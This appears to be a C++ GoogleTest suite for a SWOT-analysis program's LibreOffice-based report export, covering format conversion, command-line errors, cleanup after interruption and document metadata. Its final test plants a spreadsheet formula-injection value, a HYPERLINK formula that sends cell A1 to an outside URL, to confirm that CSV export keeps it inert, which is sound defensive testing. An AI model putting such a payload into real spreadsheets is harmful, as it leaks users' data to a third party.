// Reports converted by LibreOffice, through merovan-convert.
#include "model/UntStrings.h"
#include "reports/UntComparisonReport.h"
#include "reports/UntConvert.h"
#include "reports/UntReportExport.h"
#include "storage/UntCsv.h"
#include "storage/UntDataModule.h"
#include "storage/UntIO.h"
#include "storage/UntProgramFolder.h"

#include <QDeadlineTimer>
#include <QDir>
#include <QFile>
#include <QFileInfo>
#include <QLocale>
#include <QProcess>
#include <QRegularExpression>
#include <QScopeGuard>
#include <QTemporaryDir>
#include <QTest>
#include <csignal>
#include <gtest/gtest.h>

namespace {

std::unique_ptr<TProject> Bakery() {
    return ReadProject(ProgramFolder() + "templates/Family bakery - online sales.swot");
}

QString PdfText(const QString& path) {
    QProcess pdftotext;
    pdftotext.start("pdftotext", {"-layout", path, "-"});
    EXPECT_TRUE(pdftotext.waitForFinished(30000));
    return QString::fromUtf8(pdftotext.readAllStandardOutput());
}

// An entry of a ZIP archive, as unzip gives it.
QByteArray ZipEntry(const QString& archive, const QString& entry) {
    QProcess unzip;
    // unzip reads the name as a pattern, where brackets are special.
    unzip.start("unzip", {"-p", archive, QString(entry).replace("[", "\\[").replace("]", "\\]")});
    EXPECT_TRUE(unzip.waitForFinished(30000));
    return unzip.readAllStandardOutput();
}

// The text of an XML document, without its markup.
QString XmlText(const QByteArray& xml) {
    return QString::fromUtf8(xml).remove(QRegularExpression("<[^>]*>"));
}

bool IsOleFile(const QString& path) {
    QFile file(path);
    return file.open(QIODevice::ReadOnly) && file.read(4) == QByteArray("\xD0\xCF\x11\xE0", 4);
}

} // namespace

// Also: what conversions cut short by earlier versions left beside the
// report goes when it is written again; files merely named alike stay.
TEST(OfficeConversion, TextReportToPdfAndWord) {
    QTemporaryDir folder;
    const auto project = Bakery();
    for (const char* name :
         {"report.pdf.a1B2c3.part", "report.pdf.notes.part", "other.pdf.a1B2c3.part"}) {
        QFile file(folder.filePath(name));
        ASSERT_TRUE(file.open(QIODevice::WriteOnly));
    }
    ExportReport(TReportKind::Text, *project, ProgramFolder(), folder.filePath("report.pdf"), 3);
    EXPECT_EQ(QDir(folder.path()).entryList({"*.part"}, QDir::Files),
              (QStringList{"other.pdf.a1B2c3.part", "report.pdf.notes.part"}));
    const QString text = PdfText(folder.filePath("report.pdf"));
    EXPECT_TRUE(text.contains("Maison Fournier")) << text.left(400).toStdString();
    EXPECT_TRUE(text.contains("Our strengths"));
    // The table of contents was refreshed: it lists the headings with pages.
    EXPECT_TRUE(text.contains(QRegularExpression("Synthesis of conclusions\\s*\\.{5,}\\s*\\d")))
        << text.left(1500).toStdString();

    ExportReport(TReportKind::Text, *project, ProgramFolder(), folder.filePath("report.doc"), 2);
    EXPECT_TRUE(IsOleFile(folder.filePath("report.doc")));
    EXPECT_TRUE(QDir(WorkFolder()).entryList({"report-*"}, QDir::Files).isEmpty())
        << "the copy for the suite is gone";
}

TEST(OfficeConversion, TableReportToExcelAndPdf) {
    QTemporaryDir folder;
    const auto project = Bakery();
    ExportReport(TReportKind::Table, *project, ProgramFolder(), folder.filePath("matrix.xls"), 2);
    EXPECT_TRUE(IsOleFile(folder.filePath("matrix.xls")));
    ExportReport(TReportKind::Table, *project, ProgramFolder(), folder.filePath("matrix.pdf"), 3);
    EXPECT_TRUE(PdfText(folder.filePath("matrix.pdf")).contains("Pieces of luck"));
    EXPECT_EQ(QFileInfo(folder.filePath("matrix.pdf")).permissions() & QFileDevice::ReadOther,
              QFileDevice::ReadOther);
}

// The formats of today: each file is what its extension says and holds the
// report; the texts have their table of contents filled in, so that a heading
// is there twice.
TEST(OfficeConversion, OpenDocumentAndOfficeOpenXmlReports) {
    QTemporaryDir folder;
    const auto project = Bakery();
    const QString conclusion = "Open a click-and-collect ordering page";
    const struct {
        TReportKind kind;
        const char* name;
        const char* typeEntry;
        const char* type;
        const char* textEntry;
        const char* heading;
        int headings;
    } cases[] = {
        {TReportKind::Text, "report.odt", "mimetype", "application/vnd.oasis.opendocument.text",
         "content.xml", "Synthesis of conclusions", 2},
        {TReportKind::Text, "report.docx", "[Content_Types].xml",
         "wordprocessingml.document.main+xml", "word/document.xml", "Synthesis of conclusions", 2},
        {TReportKind::Table, "matrix.ods", "mimetype",
         "application/vnd.oasis.opendocument.spreadsheet", "content.xml", "Pieces of luck", 1},
        {TReportKind::Table, "matrix.xlsx", "[Content_Types].xml", "spreadsheetml.sheet.main+xml",
         "xl/sharedStrings.xml", "Pieces of luck", 1},
    };
    for (const auto& c : cases) {
        const QString path = folder.filePath(c.name);
        ExportReport(c.kind, *project, ProgramFolder(), path, ReportFormatOf(c.kind, path));
        EXPECT_TRUE(ZipEntry(path, c.typeEntry).contains(c.type)) << c.name;
        const QString text = XmlText(ZipEntry(path, c.textEntry));
        EXPECT_GE(text.count(c.heading), c.headings) << c.name;
        EXPECT_TRUE(text.contains(conclusion)) << c.name;
    }
}

// The comparison document goes through the text report's conversion: its
// headings, tables and table of contents reach every format.
TEST(OfficeConversion, ComparisonDocuments) {
    QTemporaryDir folder;
    const auto newer = Bakery();
    auto older = CopyProject(*newer);
    older->Items[0]->Name = "An older name";
    older->Items[1]->Mark = older->Items[1]->Mark == mkHigh ? mkLow : mkHigh;
    const TComparison comparison = CompareProjects(*older, *newer);
    for (const char* name : {"c.pdf", "c.odt", "c.docx"})
        WriteComparison(comparison, ProgramFolder(), folder.filePath(name));
    const QString pdf = PdfText(folder.filePath("c.pdf"));
    for (const char* shown : {"Contents", "Comparison of two versions", "An older name",
                              "Weights of the strategy quadrants", "Pieces of luck"})
        EXPECT_TRUE(pdf.contains(shown)) << shown << '\n' << pdf.toStdString();
    EXPECT_TRUE(
        XmlText(ZipEntry(folder.filePath("c.odt"), "content.xml")).contains("Couplings gained"));
    EXPECT_TRUE(XmlText(ZipEntry(folder.filePath("c.docx"), "word/document.xml"))
                    .contains("Comparison of two versions"));
}

TEST(OfficeConversion, WithoutTheSuiteNothingIsWritten) {
    QTemporaryDir folder;
    WriteFileAtomically(folder.filePath("kept.pdf"), "old");
    // The absence is found when the bridge starts, not by one already running.
    StopConverter();
    qputenv("MEROVAN_OFFICE_DIR", folder.filePath("no-office").toLocal8Bit());
    const auto project = Bakery();
    for (const QString name : {"new.pdf", "kept.pdf"})
        EXPECT_THROW(
            ExportReport(TReportKind::Table, *project, ProgramFolder(), folder.filePath(name), 3),
            EConversionError);
    qunsetenv("MEROVAN_OFFICE_DIR");
    EXPECT_FALSE(QFile::exists(folder.filePath("new.pdf")));
    QFile kept(folder.filePath("kept.pdf"));
    ASSERT_TRUE(kept.open(QIODevice::ReadOnly));
    EXPECT_EQ(kept.readAll(), "old");
    EXPECT_EQ(QDir(folder.path()).entryList(QDir::Files), QStringList{"kept.pdf"});
    EXPECT_TRUE(QDir(WorkFolder()).entryList({"report-*"}, QDir::Files).isEmpty());
}

TEST(OfficeConversion, CommandLine) {
    QTemporaryDir folder;
    const QString program = QStringLiteral(MEROVAN_PROGRAM);
    const QString bakery = ProgramFolder() + "templates/Family bakery - online sales.swot";
    struct Case {
        QStringList arguments;
        int status;
        QString error;
    };
    const QString missing = folder.filePath("missing.swot");
    const Case cases[] = {
        {{"--text-report", bakery, folder.filePath("r.sxw")}, 0, ""},
        {{"--table-report", bakery, folder.filePath("t.xls")}, 0, ""},
        {{"--table-report", bakery, folder.filePath("t.doc")},
         1,
         "merovan: " + folder.filePath("t.doc") +
             ": The format of the report follows the extension of its file: "
             "sxc, xls, pdf, ods, xlsx.\n"},
        {{"--text-report", missing, folder.filePath("r.pdf")},
         1,
         "merovan: " + missing + ": The file cannot be opened: No such file\n"},
        // Requests are done in order, a failure stopping none of the others.
        {{"--text-report", bakery, folder.filePath("a.pdf"), "--table-report", missing,
          folder.filePath("b.xlsx"), "--swot-picture", bakery, folder.filePath("c.svg"),
          "--table-report", bakery, folder.filePath("d.xlsx")},
         1,
         "merovan: " + missing + ": The file cannot be opened: No such file\n"},
        {{"--version"}, 0, ""},
    };
    for (const Case& c : cases) {
        QProcess merovan;
        merovan.start(program, c.arguments);
        ASSERT_TRUE(merovan.waitForFinished(120000));
        EXPECT_EQ(merovan.exitCode(), c.status) << c.arguments.join(' ').toStdString();
        EXPECT_EQ(QString::fromUtf8(merovan.readAllStandardError()), c.error);
    }
    EXPECT_TRUE(PdfText(folder.filePath("a.pdf")).contains("Maison Fournier"));
    EXPECT_FALSE(QFile::exists(folder.filePath("b.xlsx")));
    EXPECT_TRUE(QFileInfo(folder.filePath("c.svg")).size() > 0);
    EXPECT_TRUE(ZipEntry(folder.filePath("d.xlsx"), "xl/workbook.xml").contains("workbook"));
    EXPECT_TRUE(IsOleFile(folder.filePath("t.xls")));

    // Mistakes are told with the usage, status 2, and need no display.
    QProcessEnvironment headless = QProcessEnvironment::systemEnvironment();
    headless.remove("DISPLAY");
    headless.remove("WAYLAND_DISPLAY");
    headless.remove("QT_QPA_PLATFORM");
    const struct {
        QStringList arguments;
        const char* error;
    } mistakes[] = {
        {{"--bogus"}, "merovan: The option --bogus is unknown.\nUsage: merovan"},
        {{"-v"}, "merovan: The option -v is unknown.\nUsage: merovan"},
        {{"--text-report", bakery},
         "merovan: --text-report takes a project file and a report file.\nUsage: merovan"},
        {{"--text-report", bakery, "--table-report", bakery, "b.xlsx"},
         "merovan: --text-report takes a project file and a report file.\nUsage: merovan"},
        {{"--tows-picture", bakery},
         "merovan: --tows-picture takes a project file and a picture file.\nUsage: merovan"},
    };
    for (const auto& mistake : mistakes) {
        QProcess merovan;
        merovan.setProcessEnvironment(headless);
        merovan.start(program, mistake.arguments);
        ASSERT_TRUE(merovan.waitForFinished(30000));
        EXPECT_EQ(merovan.exitStatus(), QProcess::NormalExit);
        EXPECT_EQ(merovan.exitCode(), 2) << mistake.arguments.join(' ').toStdString();
        const QString error = QString::fromUtf8(merovan.readAllStandardError());
        EXPECT_TRUE(error.startsWith(mistake.error)) << error.toStdString();
        EXPECT_TRUE(error.contains("--table-report PROJECT OUTPUT")) << "the whole usage";
    }

    QProcess help;
    help.start(program, {"--help"});
    ASSERT_TRUE(help.waitForFinished(30000));
    const QString usage = QString::fromUtf8(help.readAllStandardOutput());
    for (const char* option : {"-n", "--text-report", "--table-report", "--swot-picture",
                               "--tows-picture", "--help", "--version"})
        EXPECT_TRUE(usage.contains(option)) << option;

    QProcess withoutOffice;
    QProcessEnvironment environment = QProcessEnvironment::systemEnvironment();
    environment.insert("MEROVAN_OFFICE_DIR", folder.filePath("no-office"));
    withoutOffice.setProcessEnvironment(environment);
    withoutOffice.start(program, {"--text-report", bakery, folder.filePath("r.doc")});
    ASSERT_TRUE(withoutOffice.waitForFinished(60000));
    EXPECT_EQ(withoutOffice.exitCode(), 1);
    const QString error = QString::fromUtf8(withoutOffice.readAllStandardError());
    // A missing suite is named as such, with the packages that bring it.
    EXPECT_EQ(error, "merovan: " + folder.filePath("r.doc") + ": LibreOffice is not installed (" +
                         folder.filePath("no-office") +
                         "/soffice is missing). Install the packages libreoffice-writer-nogui "
                         "and libreoffice-calc-nogui to make Word, Excel, PDF and OpenDocument "
                         "reports.\n");
    EXPECT_FALSE(QFile::exists(folder.filePath("r.doc")));
}

// A target folder that cannot take the report is named as the failure, not
// the office suite: the report flow finds out before the suite starts, the
// converter alone once it has converted.
TEST(OfficeConversion, AnUnwritableTargetFolderIsNamedAsSuch) {
    QTemporaryDir folder;
    const QString target = folder.filePath("missing/report.pdf");
    try {
        ExportReport(TReportKind::Text, *Bakery(), ProgramFolder(), target, 3);
        ADD_FAILURE() << "no error";
    } catch (const EStorageError& error) {
        EXPECT_TRUE(error.Message().startsWith("The report cannot be written: ")) << error.what();
    }

    const QString source = folder.filePath("report.sxw");
    QFile package(source);
    ASSERT_TRUE(package.open(QIODevice::WriteOnly));
    package.write(BuildReportPackage(TReportKind::Text, *Bakery(), ProgramFolder()));
    package.close();
    QProcess converter;
    converter.start(ConverterPath(), {source, target, "writer_pdf_Export"});
    ASSERT_TRUE(converter.waitForFinished(200000));
    EXPECT_NE(converter.exitCode(), 0);
    // It names the target it could not write; should the suite itself fail
    // first, as a suite that starts afresh now and then does, it says so.
    const QString reason = QString::fromUtf8(converter.readAllStandardError());
    EXPECT_TRUE(reason.contains("the converted file cannot be written to " + target) ||
                reason.contains("LibreOffice"))
        << reason.toStdString();
    EXPECT_FALSE(QFileInfo::exists(target));
    EXPECT_EQ(QDir(folder.path()).entryList(QDir::AllEntries | QDir::NoDotAndDotDot),
              QStringList{"report.sxw"});
}

namespace {

// Processes whose command line mentions the text, LibreOffice's among them.
int ProcessesMentioning(const QString& text) {
    int count = 0;
    for (const QString& pid : QDir("/proc").entryList(QDir::Dirs)) {
        QFile cmdline("/proc/" + pid + "/cmdline");
        if (cmdline.open(QIODevice::ReadOnly) && cmdline.readAll().contains(text.toUtf8()))
            ++count;
    }
    return count;
}

} // namespace

// The converter in a temporary folder whose path holds a blank; and one
// interrupted halfway, which leaves nothing behind: no folder, no file, no
// LibreOffice.
TEST(OfficeConversion, BlanksInPathsAndInterruptionsLeaveNothingBehind) {
    QTemporaryDir base;
    const QString temporary = base.filePath("with blank");
    ASSERT_TRUE(QDir().mkpath(temporary));
    const QString source = base.filePath("report.sxw");
    QFile package(source);
    ASSERT_TRUE(package.open(QIODevice::WriteOnly));
    package.write(BuildReportPackage(TReportKind::Text, *Bakery(), ProgramFolder()));
    package.close();
    QProcessEnvironment environment = QProcessEnvironment::systemEnvironment();
    environment.insert("TMPDIR", temporary);

    QProcess converter;
    converter.setProcessEnvironment(environment);
    converter.start(ConverterPath(), {source, base.filePath("report.pdf"), "writer_pdf_Export"});
    ASSERT_TRUE(converter.waitForFinished(200000));
    EXPECT_EQ(converter.exitCode(), 0) << converter.readAllStandardError().toStdString();
    EXPECT_TRUE(PdfText(base.filePath("report.pdf")).contains("Maison Fournier"));
    EXPECT_TRUE(QDir(temporary).isEmpty()) << QDir(temporary).entryList().join(' ').toStdString();

    QProcess interrupted;
    interrupted.setProcessEnvironment(environment);
    interrupted.start(ConverterPath(), {source, base.filePath("cut.pdf"), "writer_pdf_Export"});
    // Interrupted once the suite has started and converts.
    ASSERT_TRUE(QTest::qWaitFor([&interrupted] { return interrupted.canReadLine(); }, 120000));
    ASSERT_EQ(interrupted.readLine(), "converting\n");
    interrupted.terminate();
    ASSERT_TRUE(interrupted.waitForFinished(30000));
    EXPECT_NE(interrupted.exitCode(), 0);
    EXPECT_TRUE(interrupted.readAllStandardError().contains("interrupted"));
    EXPECT_FALSE(QFile::exists(base.filePath("cut.pdf")));
    EXPECT_TRUE(QTest::qWaitFor([&temporary] { return QDir(temporary).isEmpty(); }, 10000))
        << QDir(temporary).entryList().join(' ').toStdString();
    EXPECT_TRUE(QTest::qWaitFor([] { return ProcessesMentioning("with%20blank") == 0; }, 10000));
}

namespace {

// What the bridges of a program said, through MEROVAN_CONVERT_LOG.
QStringList BridgeSaid(const QString& log) {
    QFile file(log);
    if (!file.open(QIODevice::ReadOnly))
        return {};
    return QString::fromUtf8(file.readAll()).split('\n', Qt::SkipEmptyParts);
}

} // namespace

// A report from the command line, interrupted while LibreOffice converts it:
// the program says so, and leaves no report, no partial file, no working
// folder and no LibreOffice behind.
TEST(OfficeConversion, InterruptedCommandLineLeavesNothingBehind) {
    QTemporaryDir base;
    const QString temporary = base.filePath("tmp");
    const QString reports = base.filePath("reports");
    const QString log = base.filePath("bridge.log");
    ASSERT_TRUE(QDir().mkpath(temporary) && QDir().mkpath(reports));
    QProcessEnvironment environment = QProcessEnvironment::systemEnvironment();
    environment.insert("TMPDIR", temporary);
    environment.insert("MEROVAN_CONVERT_LOG", log);
    const auto leftovers = [](const QString& folder) {
        return QDir(folder)
            .entryList(QDir::AllEntries | QDir::Hidden | QDir::NoDotAndDotDot)
            .join(' ')
            .toStdString();
    };
    for (const int signal : {SIGTERM, SIGINT}) {
        QFile::remove(log);
        QProcess merovan;
        merovan.setProcessEnvironment(environment);
        merovan.start(QStringLiteral(MEROVAN_PROGRAM),
                      {"--text-report",
                       ProgramFolder() + "templates/Family bakery - online sales.swot",
                       reports + "/report.pdf"});
        ASSERT_TRUE(QTest::qWaitFor([&log] { return !BridgeSaid(log).isEmpty(); }, 120000));
        ASSERT_EQ(BridgeSaid(log), QStringList{"converting"});
        ::kill(static_cast<pid_t>(merovan.processId()), signal);
        ASSERT_TRUE(merovan.waitForFinished(30000));
        EXPECT_EQ(merovan.exitStatus(), QProcess::NormalExit);
        EXPECT_EQ(merovan.exitCode(), 128 + signal);
        const QString error = QString::fromUtf8(merovan.readAllStandardError());
        EXPECT_EQ(error, "merovan: " + reports +
                             "/report.pdf: The report was interrupted; its file was left as it "
                             "was.\n");
        EXPECT_EQ(leftovers(reports), "");
        EXPECT_TRUE(QTest::qWaitFor([&] { return leftovers(temporary).empty(); }, 10000))
            << leftovers(temporary);
        EXPECT_TRUE(QTest::qWaitFor([&] { return ProcessesMentioning(temporary) == 0; }, 10000));
    }
}

// All the reports of a call share one LibreOffice, and a program killed while
// it converts leaves nothing of it running.
TEST(OfficeConversion, AKilledProgramLeavesNoLibreOffice) {
    QTemporaryDir base;
    const QString temporary = base.filePath("tmp");
    const QString log = base.filePath("bridge.log");
    ASSERT_TRUE(QDir().mkpath(temporary));
    QProcessEnvironment environment = QProcessEnvironment::systemEnvironment();
    environment.insert("TMPDIR", temporary);
    environment.insert("MEROVAN_CONVERT_LOG", log);
    const QString bakery = ProgramFolder() + "templates/Family bakery - online sales.swot";
    QProcess merovan;
    merovan.setProcessEnvironment(environment);
    merovan.start(QStringLiteral(MEROVAN_PROGRAM),
                  {"--text-report", bakery, base.filePath("1.pdf"), "--table-report", bakery,
                   base.filePath("2.pdf"), "--text-report", bakery, base.filePath("3.docx")});
    // Killed while the third report converts.
    ASSERT_TRUE(QTest::qWaitFor([&log] { return BridgeSaid(log).size() >= 5; }, 240000));
    ASSERT_EQ(BridgeSaid(log), (QStringList{"converting", "ok", "converting", "ok", "converting"}));
    // Only one suite serves the call: its profile folder is the only one.
    EXPECT_EQ(QDir(temporary).entryList({"merovan-office-*"}, QDir::Dirs).size(), 1);
    ASSERT_GT(ProcessesMentioning(temporary), 0) << "LibreOffice runs";
    ::kill(static_cast<pid_t>(merovan.processId()), SIGKILL);
    ASSERT_TRUE(merovan.waitForFinished(10000));
    EXPECT_TRUE(
        QTest::qWaitFor([&temporary] { return ProcessesMentioning(temporary) == 0; }, 20000));
    // The bridge removes the suite's folder as it goes; the killed program's
    // own working folder is all that may stay.
    EXPECT_TRUE(QTest::qWaitFor(
        [&temporary] {
            return QDir(temporary).entryList({"merovan-office-*"}, QDir::Dirs).isEmpty();
        },
        20000));
    EXPECT_FALSE(QFileInfo::exists(base.filePath("3.docx")));
}

// The suite carries the project's title into the properties of every format
// it writes, and a French report keeps its French contents title when the
// suite makes the table of contents anew.
TEST(OfficeConversion, ReportsCarryTheTitleAndFrenchContents) {
    QLocale::setDefault(QLocale(QLocale::French, QLocale::France));
    const auto restore =
        qScopeGuard([] { QLocale::setDefault(QLocale(QLocale::English, QLocale::UnitedKingdom)); });
    QTemporaryDir folder;
    auto project = Bakery();
    const QString title = QString::fromUtf8("Boulangerie & fils – été");
    project->Title = title;
    const struct {
        TReportKind kind;
        const char* name;
        const char* propertiesEntry; // empty: a PDF
        const char* contentsEntry;   // empty: no table of contents
    } cases[] = {
        {TReportKind::Text, "report.pdf", "", ""},
        {TReportKind::Text, "report.docx", "docProps/core.xml", "word/document.xml"},
        {TReportKind::Text, "report.odt", "meta.xml", "content.xml"},
        {TReportKind::Table, "matrix.xlsx", "docProps/core.xml", ""},
        {TReportKind::Table, "matrix.ods", "meta.xml", ""},
        {TReportKind::Table, "matrix.pdf", "", ""},
    };
    for (const auto& c : cases) {
        const QString path = folder.filePath(c.name);
        ExportReport(c.kind, *project, ProgramFolder(), path, ReportFormatOf(c.kind, path));
        if (*c.propertiesEntry) {
            const QString properties = QString::fromUtf8(ZipEntry(path, c.propertiesEntry));
            const QRegularExpression element("<dc:title>([^<]*)</dc:title>");
            EXPECT_EQ(element.match(properties).captured(1), "Boulangerie &amp; fils – été")
                << c.name;
        } else {
            QProcess pdfinfo;
            pdfinfo.start("pdfinfo", {path});
            ASSERT_TRUE(pdfinfo.waitForFinished(30000));
            EXPECT_TRUE(QString::fromUtf8(pdfinfo.readAllStandardOutput())
                            .contains(QRegularExpression("Title: +" + title + "\n")))
                << c.name;
        }
        if (*c.contentsEntry) {
            const QString text = XmlText(ZipEntry(path, c.contentsEntry));
            EXPECT_TRUE(text.contains("Table des matières")) << c.name;
            EXPECT_FALSE(text.contains("Contents")) << c.name;
        }
    }
    EXPECT_TRUE(PdfText(folder.filePath("report.pdf")).contains("Table des matières"));
}

// Today's suite holds 16,384 columns in its own sheets and in .xlsx: a
// matrix of 1,100 opportunities is written whole, its last column included.
TEST(OfficeConversion, WideTablesAreWrittenWhole) {
    QTemporaryDir folder;
    auto project = std::make_unique<TProject>();
    for (int i = 0; i <= 1100; ++i) {
        auto item = std::make_unique<TTOWSItem>();
        item->Name = i == 0 ? QStringLiteral("Strength") : QStringLiteral("Opportunity %1").arg(i);
        item->SwotType = i == 0 ? stStrength : stOpportunity;
        item->Mark = 2;
        project->Items.push_back(std::move(item));
    }
    const struct {
        const char* name;
        const char* entry;
    } cases[] = {{"wide.ods", "content.xml"}, {"wide.xlsx", "xl/sharedStrings.xml"}};
    for (const auto& c : cases) {
        const QString path = folder.filePath(c.name);
        ExportReport(TReportKind::Table, *project, ProgramFolder(), path,
                     ReportFormatOf(TReportKind::Table, path));
        const QString text = XmlText(ZipEntry(path, c.entry));
        EXPECT_TRUE(text.contains("Opportunity 1100")) << c.name;
        EXPECT_TRUE(text.contains("Opportunity 1")) << c.name;
    }
}

// Names a spreadsheet would take for formulas leave Merovan's CSV as text:
// opened in the suite, each is a cell of text, not a live formula or link;
// saved as CSV again by the suite and read back, each is the name it was.
TEST(OfficeConversion, CsvCellsStayTextInTheSuiteAndComeBackExact) {
    QTemporaryDir folder;
    const auto project = Bakery();
    const QStringList names = {R"(=HYPERLINK("http://example.com/?leak="&A1;"click"))",
                               "+33 1 23 45 67 89",
                               "-minus, with a comma",
                               "@SUM(1;2)",
                               "'=already quoted",
                               "'an apostrophe first"};
    for (qsizetype i = 0; i < names.size(); ++i)
        project->Items[static_cast<std::size_t>(i)]->Name = names[i];
    const QString csv = folder.filePath("factors.csv");
    WriteFileAtomically(csv, FactorsCsv(*project));

    const QString sheet = folder.filePath("factors.ods");
    ConvertDocument(csv, sheet, "calc8");
    const QString content = QString::fromUtf8(ZipEntry(sheet, "content.xml"));
    EXPECT_FALSE(content.contains("table:formula")) << "a name became a formula";
    EXPECT_TRUE(content.contains("&apos;=HYPERLINK(&quot;http://example.com/"));

    const QString again = folder.filePath("again.csv");
    ConvertDocument(sheet, again, "Text - txt - csv (StarCalc)");
    QFile saved(again);
    ASSERT_TRUE(saved.open(QIODevice::ReadOnly));
    const auto factors = ReadFactorsCsv(saved.readAll());
    ASSERT_EQ(factors.size(), project->Items.size());
    for (std::size_t i = 0; i < factors.size(); ++i)
        EXPECT_EQ(factors[i]->Name.toStdString(), project->Items[i]->Name.toStdString())
            << "row " << i + 2;
}
